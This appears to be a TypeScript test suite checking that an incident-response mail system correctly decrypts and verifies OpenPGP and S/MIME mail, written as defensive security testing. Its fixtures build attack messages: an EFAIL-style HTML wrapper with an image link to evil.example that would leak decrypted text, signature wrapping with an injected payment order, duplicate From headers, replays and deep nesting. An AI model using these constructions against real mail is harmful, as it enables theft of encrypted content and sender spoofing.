import type { MailCryptoView } from '@muster/contract';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { OwnKey } from '../../ports/mail-crypto.ts';
import { SECURITY } from '../mail/testing/mail-scene.ts';
import { ADA_PRIVATE, type RingScene, ringScene } from './testing/ring-scene.ts';
import { revokeKey } from './trust.ts';

const REPLY = 'We have isolated the node wn17.\nIt is off the network since 08:20 UTC.\n';

describe.each(['openpgp', 'smime'] as const)('a mail that comes in under %s', (kind) => {
  let scene: RingScene;
  let ours: string;
  let ada: OwnKey;
  beforeAll(async () => {
    scene = await ringScene();
    ours = await scene.makeOwn(kind);
    ada = await scene.pair(kind);
    await scene.know(ada);
  });
  afterAll(() => scene.close());

  async function take(text: string) {
    const reading = await scene.mail.take(text);
    return { ...reading, crypto: reading.crypto as unknown as MailCryptoView | null };
  }

  test('is decrypted and verified before it is read, and stops what a reply stops', async () => {
    const delivery = await scene.mail.alarmed();
    const reading = await take(
      await scene.mailOf(REPLY, {
        kind,
        sign: ada,
        encryptTo: ours,
        headers: `In-Reply-To: <${delivery.rfc_message_id}@muster.example>\r\n`,
      }),
    );
    expect(reading).toMatchObject({ class: 'human', verified: true, incident_id: scene.mail.incident });
    expect(reading.own_text).toContain('isolated the node wn17');
    expect(reading.crypto).toEqual({
      kind,
      encrypted: true,
      reading: 'read',
      partial: false,
      signature: {
        state: 'valid',
        fingerprint: ada.facts.fingerprint,
        signer: expect.stringContaining(SECURITY),
        signedAt: scene.mail.now.toISOString(),
        matchesSender: true,
        keyVerified: true,
      },
    });
    expect((await scene.mail.delivery(delivery.id)).state).toBe('replied-human');
  });

  test('keeps its bytes as they came, and the ledger names nobody', async () => {
    const sent = await scene.mailOf('Signed alone.\n', { kind, sign: ada });
    const reading = await take(sent);
    const { raw } = await scene.app.db
      .selectFrom('inbound_mail')
      .select('raw')
      .where('id', '=', reading.mail)
      .executeTakeFirstOrThrow();
    expect(raw?.toString('latin1')).toBe(sent);
    const entries = await scene.app.db.selectFrom('ledger_entry').select('body').execute();
    const text = JSON.stringify(entries);
    expect(text).not.toContain(ada.facts.fingerprint);
    expect(text).not.toContain('alpha.example');
    expect(text).toContain('"signature": "valid"'.replace(' ', ''));
  });

  test('from another address of the same person counts as that contact', async () => {
    const reading = await take(
      await scene.mailOf('From my phone: it is contained.\n', {
        kind,
        sign: ada,
        from: `Ada <${ADA_PRIVATE}>`,
      }),
    );
    expect(reading.verified).toBe(true);
    expect(reading.crypto?.signature).toMatchObject({ state: 'valid', matchesSender: false });
  });

  test('sent again days later under another address, an old signature speaks for nobody', async () => {
    const old = await scene.mailOf('It is contained, all is well.\n', {
      kind,
      sign: ada,
      from: 'x@evil.example',
    });
    await scene.mail.app.clock.advance(3 * 86_400_000);
    const reading = await take(old);
    expect(reading.crypto?.signature).toMatchObject({ state: 'valid', matchesSender: false });
    expect(reading.verified).toBe(false);
  });

  test('with two From fields matches no sender', async () => {
    const reading = await take(
      await scene.mailOf('Which one?\n', { kind, sign: ada, headers: 'From: Mallory <m@evil.example>\r\n' }),
    );
    expect(reading.crypto?.signature?.matchesSender).toBe(false);
  });

  test('with words beside the signed part is not signed at all', async () => {
    const footed = (entity: string) =>
      `Content-Type: multipart/mixed; boundary="list"\r\n\r\n--list\r\n${entity}\r\n--list\r\n\r\nPay to account 7 at once.\r\n--list--\r\n`;
    const reading = await take(
      await scene.mailOf(REPLY, { kind, sign: ada, wrap: footed, from: 'x@evil.example' }),
    );
    expect(reading.crypto).toMatchObject({ partial: true, signature: null });
    expect(reading.verified).toBe(false);
    expect(reading.own_text).toContain('Pay to account 7');
  });

  test('does not carry an encrypted part out: what stands beside one is read, and the part stays shut', async () => {
    const around = (entity: string) =>
      `Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--b\r\n${entity}\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n`;
    const reading = await take(
      await scene.mailOf('the secret plan\n', {
        kind,
        encryptTo: ours,
        wrap: around,
        from: 'x@evil.example',
      }),
    );
    expect(reading.crypto).toMatchObject({ partial: true, encrypted: true, reading: null, signature: null });
    expect(JSON.stringify(reading)).not.toContain('the secret plan');
  });

  test('shows of a changed one that it was changed', async () => {
    const sent = await scene.mailOf('We have isolated the node.\n', { kind, sign: ada });
    const reading = await take(sent.replace('isolated', 'restored'));
    expect(reading.crypto?.signature).toMatchObject({
      state: 'invalid',
      matchesSender: false,
      keyVerified: false,
    });
  });

  test('to somebody else is said to be unreadable, and keeps its place by its header', async () => {
    const other = await scene.pair(kind, 'other@muster.example');
    const reading = await take(
      await scene.mailOf('not for you\n', { kind, encryptTo: other.facts.publicText }),
    );
    expect(reading.crypto).toMatchObject({ encrypted: true, reading: 'not-for-us', signature: null });
    expect(reading.incident_id).toBe(scene.mail.incident);
  });

  test('in ten shells is given up, not followed', async () => {
    let text = 'Content-Type: text/plain\r\n\r\ndeep\r\n';
    for (let depth = 0; depth < 10; depth += 1)
      text = await scene.cryptos[kind].protect(text, { sign: null, encryptTo: ours, at: scene.mail.now });
    const reading = await take(`From: ${SECURITY}\r\nTo: csirt@muster.example\r\nSubject: deep\r\n${text}`);
    expect(reading.crypto?.encrypted).toBe(true);
    expect(reading.own_text).not.toContain('deep');
  });

  test('of a key that was revoked meanwhile speaks for nobody', async () => {
    const bob = await scene.pair(kind, 'bob@alpha.example');
    const id = await scene.know(bob);
    await revokeKey(scene.app, scene.officer, id, { why: 'laptop stolen' });
    const reading = await take(
      await scene.mailOf('It is Bob.\n', { kind, sign: bob, from: 'bob@alpha.example' }),
    );
    expect(reading.crypto?.signature).toMatchObject({ state: 'revoked', matchesSender: false });
    expect(reading.verified).toBe(false);
  });

  test('of a key that nobody verified is valid, and speaks for nobody but its From', async () => {
    const eve = await scene.pair(kind, 'eve@evil.example');
    await scene.know(eve, { verified: false });
    const reading = await take(
      await scene.mailOf('Trust me.\n', { kind, sign: eve, from: 'eve@evil.example' }),
    );
    expect(reading.crypto?.signature).toMatchObject({
      state: 'valid',
      matchesSender: true,
      keyVerified: false,
    });
    expect(reading.verified).toBe(false);
  });
});
